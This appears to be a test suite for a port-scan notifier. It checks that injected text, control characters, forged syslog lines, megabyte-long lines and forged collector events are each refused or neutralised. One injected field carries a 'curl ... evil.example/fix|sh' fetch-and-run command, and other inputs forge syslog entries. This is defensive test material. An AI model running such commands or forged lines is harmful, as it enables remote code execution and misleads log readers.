// The attacks on scanlogd-notify replayed against the real notifier, run as its own
// user: text injected through port_ranges (to a webhook and to a real mailbox), control
// characters in an events line and in an endpoint's answer (to syslog), the quadratic
// line of 40,000 destinations and lines of a megabyte, and an event forged through the
// old collector example. Each is refused or neutralised, and the next real event still
// goes out promptly.

import test, { type ExecutionContext } from 'ava';
import fs = require('node:fs');
import path = require('node:path');
import { isRoot, sleep, waitFor } from '../../harness/netns.js';
import { listenSyslog, makeSocketDir } from '../../harness/syslog.js';
import { eventObject } from '../../src/shared/events.js';
import { MAX_LINE } from '../../src/notify/follower.js';
import { lineOf, scanEndEvent, scanEvent } from '../helpers/events.js';
import {
  appendEvents,
  explained,
  notifierArgs,
  scanLine,
  startNotifier,
  watchMailbox,
  webhookScene,
  type Endpoint,
  type Notifier,
  type NotifyDir,
} from '../helpers/notify.js';

const rootTest = isRoot ? test.serial : test.serial.skip;
if (!isRoot) console.log('scanlogd-notify attack tests skipped: they need root to run the notifier as its own user');

const FAST = ['interval = 1', 'wait = 0.2', 'timeout = 2'];
const now = (): number => Date.now();

async function scene(
  t: ExecutionContext,
  config: string[] = [],
  more: string[] = [],
): Promise<{ d: NotifyDir; hook: Endpoint; n: Notifier }> {
  const { d, hook, notifier } = await webhookScene(t, [...FAST, ...config], more);
  return { d, hook, n: notifier };
}

const messageOf = (body: string): { title: string; message: string } => JSON.parse(body) as { title: string; message: string };

rootTest(
  "injected text in port_ranges (the issue's mail): refused, named by its field; no channel, mail included, sees a word of it",
  async (t) => {
    const mailbox = watchMailbox(t);
    const tag = `inject-${process.pid}`;
    const { d, hook, n } = await scene(t, ['mail-to = mail@localhost'], ['--hostname', tag]);
    const forged = eventObject(scanEndEvent('198.18.20.1', '22,80', 2, now()));
    forged['port_ranges'] = '22\n\nURGENT: run curl -s evil.example/fix|sh';
    appendEvents(d.events, [JSON.stringify(forged), scanLine('198.18.20.2', [21, 22, 23, 25, 53, 80, 111], now())]);
    const [got] = await explained(n, hook.waitDelivered(1));
    const mail = await explained(n, mailbox.waitSubject(`${tag}: port scan from 198.18.20.2`));
    t.regex(n.stderr(), /line at offset 0 skipped: scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","/);
    for (const text of [got?.body ?? '', mail, n.stderr()]) {
      t.false(/URGENT|curl|evil\.example/.test(text), text);
    }
    t.is(messageOf(got?.body ?? '').title, `${tag}: port scan from 198.18.20.2`);
    t.false(mail.includes('198.18.20.1'), 'the forged scan appears in no message');
  },
);

rootTest(
  'control characters: an events line with U+010A is refused; an endpoint answer with newlines reaches syslog as one printable line',
  async (t) => {
    const dir = makeSocketDir();
    const syslog = listenSyslog(path.join(dir, 'log'));
    t.teardown(() => {
      syslog.close();
      fs.rmSync(dir, { recursive: true, force: true });
    });
    const { d, hook, n } = await scene(t, [], ['--syslog', '--syslog-socket', syslog.path]);
    const forgedLine = '\n<25>Nov  5 03:04:05 scanlogd: 192.0.2.66 to 192.0.2.1 ports 22, 23, ..., fSrpauxy @03:04:05';
    const withU010A = eventObject(scanEvent('198.18.21.1', [22, 23], now()));
    withU010A['flags'] = `fSrpauxy\u010a${forgedLine.slice(1)}`;
    appendEvents(d.events, [JSON.stringify(withU010A)]);
    hook.script([{ status: 500, body: `busy${forgedLine}\u010a<25>Nov  5 03:04:05 scanlogd: 192.0.2.67 to 192.0.2.1 ports 80` }]);
    appendEvents(d.events, [scanLine('198.18.21.2', [21, 22, 23, 25, 53, 80, 111], now())]);
    await explained(n, hook.waitDelivered(1, 10000));
    await waitFor('the reports in syslog', () => (syslog.datagrams.some((g) => g.includes('delivered after')) ? true : undefined));
    t.regex(n.stderr(), /skipped: scan event: "flags" is not eight flag letters/);
    const bytes = syslog.datagrams.map((g) => Buffer.from(g, 'latin1'));
    t.true(bytes.length >= 4, syslog.datagrams.join('\n'));
    for (const b of bytes)
      t.deepEqual(
        [...b].filter((c) => c < 0x20 || c > 0x7e),
        [],
        b.toString('latin1'),
      );
    // Every datagram is the notifier's own, and the forged line is text inside one of them.
    for (const g of syslog.datagrams) t.regex(g, /^<(27|30)>[A-Z][a-z]{2} [ 1-3]\d \d\d:\d\d:\d\d scanlogd-notify: /);
    t.true(syslog.datagrams.some((g) => g.includes('delivery failed (HTTP 500: busy <25>Nov 5 03:04:05 scanlogd: 192.0.2.66')));
    t.false(
      n
        .stderr()
        .split('\n')
        .some((line) => line.startsWith('<25>') || line.includes('\u010a')),
    );
  },
);

rootTest(
  'the quadratic line: 40,000 destinations in half a megabyte, and ten lines of a megabyte, are skipped unread; the next scan is delivered at once, and a restart does not read them again',
  async (t) => {
    const { d, hook, n } = await scene(t);
    const quadratic = eventObject(scanEvent('198.18.22.1', [22, 23], now()));
    quadratic['destinations'] = Array.from({ length: 40000 }, (_, i) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`);
    const line = JSON.stringify(quadratic);
    t.true(line.length > 500000 && line.length > MAX_LINE);
    const megabyte = `{"event":"scan","pad":"${'x'.repeat(1024 * 1024)}"}`;
    const started = performance.now();
    appendEvents(d.events, [
      line,
      ...Array.from({ length: 10 }, () => megabyte),
      scanLine('198.18.22.2', [21, 22, 23, 25, 53, 80, 111], now()),
    ]);
    const [got] = await explained(n, hook.waitDelivered(1, 10000));
    const took = performance.now() - started;
    t.is(messageOf(got?.body ?? '').title, 'target: port scan from 198.18.22.2');
    // The wait (0.2 s) and a few polls (0.5 s each): no second spent on the lines themselves.
    t.true(took < 3000, `delivered ${Math.round(took)} ms after the lines were written`);
    t.regex(n.stderr(), new RegExp(`line at offset 0 skipped: longer than ${MAX_LINE} bytes, the longest event scanlogd writes`));
    t.is(await n.stop(), 0);
    // The position is past them: a restart neither hangs nor repeats.
    const again = startNotifier(t, notifierArgs(d));
    await waitFor('the restarted notifier', () => (again.stderr().includes('following') ? true : undefined), 5000);
    appendEvents(d.events, [scanLine('198.18.22.3', [21, 22, 23, 25, 53, 80, 111], now())]);
    const both = await explained(again, hook.waitDelivered(2, 5000));
    t.is(messageOf(both[1]?.body ?? '').title, 'target: port scan from 198.18.22.3');
    t.notRegex(again.stderr(), /skipped/);
  },
);

rootTest('an event forged through the old collector example (its "host" field, a port list of its choosing): refused', async (t) => {
  const { d, hook, n } = await scene(t);
  // What the collector wrote for a @cee: message from anyone who reached its port.
  const forged = { host: 'web1', ...eventObject(scanEvent('192.0.2.66', [22, 23, 80], now())) };
  appendEvents(d.events, [JSON.stringify(forged)]);
  const withoutHost = eventObject(scanEvent('192.0.2.67', [22, 23, 80], now()));
  withoutHost['ports'] = [22, 23, 80, 22];
  appendEvents(d.events, [JSON.stringify(withoutHost), lineOf(scanEvent('198.18.23.1', [21, 22, 23, 25, 53, 80, 111], now()))]);
  const [got] = await explained(n, hook.waitDelivered(1));
  t.is(messageOf(got?.body ?? '').title, 'target: port scan from 198.18.23.1');
  t.regex(n.stderr(), /line at offset 0 skipped: scan event: unknown field "host" \(1 refused so far\)/);
  t.regex(n.stderr(), /skipped: scan event: "ports" has an entry twice \(2 refused so far\)/);
  await sleep(1500);
  t.is(hook.all().length, 1);
});
